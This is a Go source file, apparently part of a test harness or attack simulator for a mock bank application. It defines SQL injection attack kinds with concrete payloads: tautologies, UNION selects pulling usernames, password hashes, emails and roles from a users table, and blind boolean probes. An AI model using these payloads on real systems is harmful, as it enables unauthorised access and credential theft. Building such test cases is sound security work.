package plan

// Attacks by text that the bank takes for SQL.
func injectionKinds() []kind {
	return []kind{
		tampering("sql_injection_all", "searches for what every entry matches", sqlConcatenation, injects(everything)),
		tampering("sql_injection_union", "searches the table of users as well", sqlConcatenation, injects(unions)),
		tampering("sql_injection_blind", "asks the database yes-or-no questions", sqlConcatenation, injects(questions)),
	}
}

// injects searches for each of the texts in turn.
func injects(texts []string) func(*raid) {
	return func(r *raid) {
		r.amid(func(v *visit) {
			for i := range r.times(len(texts)) {
				v.strike(r.index, func() { v.search(texts[i%len(texts)]) })
			}
		})
	}
}

// The bank looks for the text between '% and %', in lower case, and selects the id, the account, the text, the amount and
// the time of entries. Everything below is understood by both databases.
var (
	everything = []string{"' or 1=1 --", "x' or 'a'='a' --"}

	unions = []string{
		"nothing' union select id, id, username || ' ' || password_hash, 0, created_at from users --",
		"nothing' union select id, daily_limit, display_name || ' ' || email || ' ' || role, 0, created_at from users --",
	}

	questions = []string{
		"s' and 1=1 --",
		"s' and 1=2 --",
		"s' and (select count(*) from users) > 100 --",
		"s' and (select count(*) from users where role = 'clerk') > 10 --",
		"s' and (select length(username) from users where id = 0) = 4 --",
		"s' and (select substr(password_hash, 1, 1) from users where id = 1) < '8' --",
	}
)
